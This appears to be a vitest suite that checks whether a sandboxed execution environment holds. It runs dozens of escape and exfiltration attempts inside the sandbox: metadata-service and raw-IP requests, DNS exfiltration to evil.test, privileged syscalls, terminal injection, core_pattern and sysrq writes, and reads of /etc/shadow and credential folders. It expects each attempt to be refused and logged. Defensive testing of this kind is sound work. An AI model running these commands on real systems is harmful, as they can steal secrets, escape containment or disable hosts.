import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { Stage, USERS, whyNoWorlds } from './kit/stage.js';

vi.setConfig({ hookTimeout: 240_000, testTimeout: 240_000 });

const why = whyNoWorlds();
const absent = why === undefined ? '' : ` (not here: ${why})`;

/** An attack: a script of a shell in a world, and what has to come of it. */
interface Attack {
  readonly name: string;
  readonly script: string;
  /** It prints this where it is held, and nothing that tells of success. */
  readonly says: RegExp;
  /** A destination that the record has to name. */
  readonly recorded?: string;
}

/** A program in Python, for what no tool of a shell does. */
const python = (text: string): string => `/usr/bin/python3 -c '${text.replaceAll("'", `'"'"'`)}'`;
const tryIt = (body: string): string =>
  `import socket, ctypes, os\ntry:\n  ${body.replaceAll('\n', '\n  ')}\nexcept OSError as error:\n  print("ERROR", error.errno)`;
const connect = (family: string, type: string, protocol: number, host: string, port: number): string =>
  python(
    tryIt(
      `s = socket.socket(socket.${family}, socket.${type}, ${protocol})\ns.settimeout(3)\ns.connect(("${host}", ${port}))\ns.send(b"GET / HTTP/1.0\\r\\n\\r\\n")\nprint("ANSWER", s.recv(12))`,
    ),
  );
const systemCall = (number: number, ...args: readonly (number | string)[]): string =>
  python(
    `import ctypes\nc = ctypes.CDLL(None, use_errno=True)\nr = c.syscall(${[number, ...args].join(', ')})\nprint("RESULT", r if r < 0 else "DONE", ctypes.get_errno())`,
  );

const REFUSED = /403|ERROR|HTTP\/1\.1 403/;

const NETWORK: readonly Attack[] = [
  {
    name: 'an address that no name leads to',
    script: 'curl -sm3 http://93.184.216.34/',
    says: /not_allowed|403/,
    recorded: '93.184.216.34:80',
  },
  {
    name: 'the metadata service',
    script: 'curl -sm3 http://169.254.169.254/latest/meta-data/',
    says: /address_refused|not_allowed/,
    recorded: '169.254.169.254:80',
  },
  {
    name: 'TLS to an address at any port',
    script: 'curl -skm3 https://1.1.1.1:8443/; echo "rc $?"',
    says: /^rc (?:35|56|52)$/m,
    recorded: '1.1.1.1:8443',
  },
  {
    name: 'a name that is not listed',
    script: 'getent hosts evil.test; echo "rc $?"',
    says: /^rc 2$/m,
    recorded: 'evil.test',
  },
  {
    name: 'data in a name',
    script: 'getent hosts c2VjcmV0.evil.test; echo "rc $?"',
    says: /^rc 2$/m,
    recorded: 'c2vjcmv0.evil.test',
  },
  {
    name: 'another name server by TCP',
    script: connect('AF_INET', 'SOCK_STREAM', 0, '8.8.8.8', 53),
    says: REFUSED,
    recorded: '8.8.8.8:53',
  },
  {
    name: 'another name server by UDP',
    script: python(
      tryIt(
        's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\ns.connect(("8.8.8.8", 53))\ns.send(b"x" * 20)\nprint("ANSWER", s.recv(10))',
      ),
    ),
    says: /ERROR (?:1|13|111)/,
  },
  {
    name: 'QUIC',
    script: python(
      tryIt(
        's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nprint("SENT", s.sendto(b"x", ("1.1.1.1", 443)))',
      ),
    ),
    says: /ERROR (?:1|13)/,
  },
  {
    name: 'a raw socket',
    script: python(tryIt('socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nprint("MADE")')),
    says: /ERROR 1/,
  },
  {
    name: 'ICMP without being root',
    script: python(
      tryIt(
        's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)\ns.connect(("8.8.8.8", 0))\nprint("SENT", s.send(bytes([8,0,0,0,0,0,0,0])))',
      ),
    ),
    says: /ERROR (?:1|13)/,
  },
  { name: 'IPv6', script: connect('AF_INET6', 'SOCK_STREAM', 0, '2606:4700:4700::1111', 80), says: /ERROR/ },
  {
    name: 'an address of IPv4 in one of IPv6',
    script: connect('AF_INET6', 'SOCK_STREAM', 0, '::ffff:169.254.169.254', 80),
    says: /ANSWER b.HTTP\/1.1 403/,
    recorded: '169.254.169.254:80',
  },
  {
    name: 'MPTCP',
    script: connect('AF_INET', 'SOCK_STREAM', 262, '1.2.3.4', 80),
    says: /ANSWER b.HTTP\/1.1 403|ERROR/,
    recorded: '1.2.3.4:80',
  },
  { name: 'SCTP', script: connect('AF_INET', 'SOCK_STREAM', 132, '1.2.3.4', 80), says: /ERROR/ },
  { name: 'UDPLITE', script: connect('AF_INET', 'SOCK_DGRAM', 136, '1.2.3.4', 80), says: /ERROR/ },
  {
    name: 'data in the first packet of TCP',
    script: python(
      tryIt(
        's = socket.socket()\ns.settimeout(3)\ns.sendto(b"GET / HTTP/1.0\\r\\n\\r\\n", 0x20000000, ("1.2.3.5", 80))\nprint("ANSWER", s.recv(12))',
      ),
    ),
    says: /ANSWER b.HTTP\/1.1 403|ERROR/,
    recorded: '1.2.3.5:80',
  },
  { name: 'a broadcast', script: connect('AF_INET', 'SOCK_STREAM', 0, '255.255.255.255', 80), says: /ERROR/ },
  {
    name: 'an address that nobody has',
    script: connect('AF_INET', 'SOCK_STREAM', 0, '240.0.0.1', 9),
    says: /403|ERROR/,
  },
  {
    name: 'the gateway’s own door',
    script: connect('AF_INET', 'SOCK_STREAM', 0, '10.99.0.2', 15001),
    says: /ERROR 104|ANSWER b''/,
  },
  {
    name: 'the gateway’s own door on loopback',
    script: connect('AF_INET', 'SOCK_STREAM', 0, '127.0.0.1', 15001),
    says: /ERROR 104|ANSWER b''/,
  },
  {
    name: 'an address of names that stands for none',
    script: connect('AF_INET', 'SOCK_STREAM', 0, '198.18.77.77', 80),
    says: /ERROR 104|ANSWER b''/,
  },
  {
    name: 'a listener in the place of the gateway’s',
    script: python(
      'import socket\nfor options in ([2], [15], [2, 15]):\n  s = socket.socket()\n  for o in options: s.setsockopt(1, o, 1)\n  try:\n    s.bind(("127.0.0.1", 15001)); s.listen(); print("BOUND")\n  except OSError as e: print("ERROR", e.errno)',
    ),
    says: /ERROR 98/,
  },
  {
    name: 'a server of names in the place of the gateway’s',
    script: python(
      tryIt(
        's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.setsockopt(1, 15, 1)\ns.bind(("10.99.0.2", 53))\nprint("BOUND")',
      ),
    ),
    says: /ERROR (?:13|98)/,
  },
  {
    name: 'a listener at an address of the world outside',
    script: python(
      tryIt(
        's = socket.socket()\ns.bind(("8.8.8.8", 5353))\ns.listen()\nc = socket.socket()\nc.settimeout(3)\nc.connect(("8.8.8.8", 5353))\nc.send(b"GET / HTTP/1.0\\r\\n\\r\\n")\nprint("ANSWER", c.recv(12))',
      ),
    ),
    says: /403|ERROR/,
  },
  {
    name: 'another rule for packets',
    script: 'ip addr add 1.2.3.4/32 dev lo; ip route flush table all; nft flush ruleset; echo "rc $?"',
    says: /not permitted|denied/i,
  },
  {
    name: 'a transparent socket',
    script: python(tryIt('socket.socket().setsockopt(0, 19, 1)\nprint("SET")')),
    says: /ERROR 1/,
  },
  {
    name: 'words that are no question about a name',
    script: python(
      'import socket\ns = socket.socket(2, 2)\nfor b in (b"x", b"\\0" * 12, b"\\0" * 12 + b"\\x3f" + b"a" * 5, b"\\0" * 12 + b"\\xc0\\x0c\\0\\1\\0\\1", b"\\0" * 600): s.sendto(b, ("10.99.0.2", 53))\nprint("SENT")',
    ),
    says: /SENT/,
  },
];

const KERNEL: readonly Attack[] = [
  {
    name: 'a unix socket of the machine',
    script:
      'for s in /run/docker.sock /run/dbus/system_bus_socket /var/run/docker.sock; do test -e $s && echo "FOUND $s"; done; echo none',
    says: /^none$/m,
  },
  {
    name: 'a socket of the machine by an abstract name',
    script: python(
      tryIt('s = socket.socket(socket.AF_UNIX)\ns.connect("\\0sub-abstract-test")\nprint("ANSWER")'),
    ),
    says: /ERROR 111/,
  },
  {
    name: 'the gateway’s socket',
    script:
      'ls "$SUB_HOME" /tmp/sub-w-*/h 2>&1; find / -name gateway.sock 2>/dev/null | grep . && echo FOUND; echo none',
    says: /^none$/m,
  },
  ...(['AF_VSOCK', 'AF_PACKET', 'AF_ALG'] as const).map((family) => ({
    name: `a socket of ${family}`,
    script: python(
      tryIt(
        `socket.socket(socket.${family}, socket.SOCK_STREAM if "${family}" == "AF_VSOCK" else socket.SOCK_RAW if "${family}" == "AF_PACKET" else socket.SOCK_SEQPACKET, 0)\nprint("MADE")`,
      ),
    ),
    says: /ERROR (?:97|1)\b/,
  })),
  {
    name: 'the kernel’s events',
    script: python(tryIt('socket.socket(16, socket.SOCK_RAW, 15).bind((0, 1))\nprint("BOUND")')),
    says: /ERROR 1/,
  },
  { name: 'a user namespace', script: 'unshare -Urn true; echo "rc $?"', says: /^rc 1$/m },
  { name: 'clone into namespaces', script: systemCall(56, 0x10000000, 0, 0, 0, 0), says: /RESULT -1 1/ },
  { name: 'clone3', script: systemCall(435, 0, 0), says: /RESULT -1 38/ },
  ...[
    ['io_uring', 425],
    ['bpf', 321],
    ['userfaultfd', 323],
    ['perf_event_open', 298],
    ['keyctl', 250],
    ['ptrace', 101],
    ['process_vm_readv', 310],
    ['mount', 165],
    ['setns', 308],
    ['pidfd_getfd', 438],
    ['memfd_secret', 447],
    ['listmount', 458],
    ['statmount', 457],
    ['open_by_handle_at', 304],
    ['fanotify_init', 300],
    ['syslog', 103],
    ['modify_ldt', 154],
    ['kexec_load', 246],
  ].map(([name, number]) => ({
    name: `the system call ${name}`,
    script: systemCall(Number(number), 0, 0, 0, 0, 0),
    says: /RESULT -1 1\b/,
  })),
  {
    name: 'a system call of the x32 kind',
    script: `${systemCall(0x40000000 + 39)}; echo "rc $?"`,
    says: /rc 159/,
  },
  {
    name: 'words into the terminal of somebody',
    script: python(tryIt('import fcntl\nm, s = os.openpty()\nfcntl.ioctl(s, 0x5412, b"x")\nprint("PUT")')),
    says: /ERROR 1/,
  },
  {
    name: 'a line discipline',
    script: python(
      tryIt(
        'import fcntl, struct\nm, s = os.openpty()\nfcntl.ioctl(s, 0x5423, struct.pack("i", 21))\nprint("SET")',
      ),
    ),
    says: /ERROR 1/,
  },
  {
    name: 'the memory of the first process',
    script: 'exec 3<>/proc/1/mem && echo OPEN; echo none',
    says: /denied[\s\S]*|none/,
  },
  {
    name: 'the files of the first process',
    script: 'ls /proc/1/fd /proc/1/root /proc/1/cwd 2>&1 | grep -v denied | grep . && echo FOUND; echo none',
    says: /^none$/m,
  },
  { name: 'the processes of the machine', script: 'ls /proc | grep -c "^[0-9]"', says: /^[1-9]$/m },
  {
    name: 'the environment of whoever started it',
    script:
      'cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep canary-env && echo FOUND; env | grep CANARY; echo none',
    says: /^none$/m,
  },
  {
    name: 'the command lines of whoever started it',
    script: 'cat /proc/*/cmdline | tr "\\0" " " | grep -o "enter.pl\\|bwrap" ; echo none',
    says: /^none$/m,
  },
  {
    name: 'the place of the first process in the queue, by its group and its user',
    script: `${python(
      'import os\nfor kind in (os.PRIO_PGRP, os.PRIO_USER):\n  try:\n    os.setpriority(kind, 0, 19)\n    print("SET")\n  except OSError as e: print("ERROR", e.errno)',
    )}; ionice -c3 -u $(id -u) 2>&1; ps -o ni= -p 1`,
    says: /ERROR 1\nERROR 1\n[^]*not permitted[^]*^ *0$/im,
  },
  {
    name: 'the end of the first process by a signal of a file',
    script: `${python(
      tryIt(
        'import fcntl\nr, w = os.pipe()\nfcntl.fcntl(r, 8, 1)\nfcntl.fcntl(r, 10, 9)\nfcntl.fcntl(r, 4, 0x2000)\nos.write(w, b"x")',
      ),
    )}; echo alive`,
    says: /^alive$/m,
  },
  {
    name: 'a lease, which has everybody else wait who opens the file',
    script: python(
      tryIt('import fcntl\nf = os.open("leased", os.O_CREAT)\nfcntl.fcntl(f, 1024, 0)\nprint("SET")'),
    ),
    says: /ERROR 1\b/,
  },
  {
    name: 'the end of the first process',
    script: '(kill -9 1; kill -STOP 1) 2>/dev/null; echo alive',
    says: /alive/,
  },
  { name: 'a device', script: 'mknod /tmp/sda b 254 0; echo "rc $?"', says: /^rc 1$/m },
  {
    name: 'the system’s files',
    script: 'touch /usr/x /etc/x /bin/x; mount -o remount,rw /usr; echo "rc $?"',
    says: /^rc [1-9]/m,
  },
  {
    name: 'the handler of core dumps',
    script: 'echo "|/tmp/x" > /proc/sys/kernel/core_pattern; echo "rc $?"',
    says: /^rc [12]$/m,
  },
  {
    name: 'the switches of the kernel',
    script: 'echo b > /proc/sysrq-trigger; ls /sys/kernel 2>&1; echo "rc $?"',
    says: /^rc [1-9]$/m,
  },
  {
    name: 'the passwords of the machine',
    script: 'cat /etc/shadow /etc/gshadow; echo "rc $?"',
    says: /^rc 1$/m,
  },
  { name: 'a link to them', script: 'ln -sf /etc/shadow s; cat s; echo "rc $?"', says: /^rc 1$/m },
  {
    name: 'a second name of a program of the system',
    script: 'ln /usr/bin/passwd h; echo "rc $?"',
    says: /^rc 1$/m,
  },
  {
    name: 'the home',
    script: 'ls -A ~/.ssh ~/.aws ~/.npmrc ~/.config 2>/dev/null | grep . && echo FOUND; echo none',
    says: /^none$/m,
  },
  {
    name: 'paths of the machine in the list of mounts',
    script: 'grep -o "/mnt/[0-9]*\\|sub-world-[A-Za-z0-9]*" /proc/self/mountinfo && echo FOUND; echo none',
    says: /^none$/m,
  },
  {
    name: 'files that were open in whoever started it',
    script: 'ls /proc/self/fd | sort -n | tr "\\n" " "',
    says: /^0 1 2 3 $/m,
  },
  {
    name: 'a device of the machine in /dev',
    script: 'head -c 100 /dev/zero > /dev/x && echo WROTE; ls /dev | tr "\\n" " "',
    says: /null/,
  },
];

const ALL = [...NETWORK, ...KERNEL];
const SUCCESS = /FOUND|BOUND|MADE|\bSET\b|WROTE|OPEN\b|RESULT DONE|PUT\b/;

describe.skipIf(why !== undefined)(`a world${absent}`, () => {
  describe.each(USERS)('that is started by %s', (_, uid) => {
    let stage: Stage;
    let server: Server;
    let said: ReadonlyMap<string, string>;

    beforeAll(async () => {
      server = createServer((_request, response) => response.end('the allowed server'));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const { port } = server.address() as AddressInfo;
      stage = new Stage(uid);
      await stage.start({ 'allowed.test': [{ port }] });
      // One world for all of them: what one did, the next one finds.
      const script = ALL.map(({ script: one }, at) => `printf "\\n=== ${at}\\n"; ( ${one} ) 2>&1`).join('\n');
      const end = await stage.inWorld(
        `${script}\nprintf "\\n=== end\\n"; curl -sm3 http://allowed.test:${port}/`,
      );
      const parts = end.stdout.split(/^=== (\d+|end)\n/m).slice(1);
      const pairs = parts.flatMap((key, at) => (at % 2 === 0 ? [[key, parts[at + 1] ?? ''] as const] : []));
      said = new Map(pairs);
      if (said.size < ALL.length)
        throw new Error(`the world ended early: ${end.code} ${end.stderr} ${end.stdout.slice(-500)}`);
    });
    afterAll(async () => {
      await stage.remove();
      server.close();
    });

    it.each(ALL.map((attack, at) => [attack.name, attack, at] as const))(
      'holds against %s',
      (_name, attack, at) => {
        const text = said.get(String(at)) ?? '';
        expect(text).toMatch(attack.says);
        if (attack.says.source !== 'SENT') expect(text).not.toMatch(SUCCESS);
      },
    );

    it.each(
      NETWORK.flatMap(({ name, recorded }) => (recorded === undefined ? [] : [[name, recorded] as const])),
    )('records %s with its destination', (_name, destination) => {
      const places = stage.rows().flatMap(({ type, data }) => {
        const { facts } = data as { facts?: { host?: string; port?: number } };
        if (type !== 'action_rejected' || facts === undefined) return [];
        return [`${facts.host}:${facts.port}`, String(facts.host)];
      });
      expect(places).toContain(destination);
    });

    it('still reaches what is allowed, by its name, behind all of them', () => {
      expect(said.get('end')).toBe('the allowed server');
    });

    it('looks up no name that is not listed', async () => {
      expect(await stage.resolved()).toEqual(['allowed.test']);
    });

    it('leaves nothing of the machine changed', () => {
      expect(readFileSync('/proc/sys/kernel/core_pattern', 'utf8')).not.toContain('/tmp/x');
      expect(existsSync('/usr/x')).toBe(false);
      expect(existsSync(join('/tmp', 'sda'))).toBe(false);
    });
  });
});
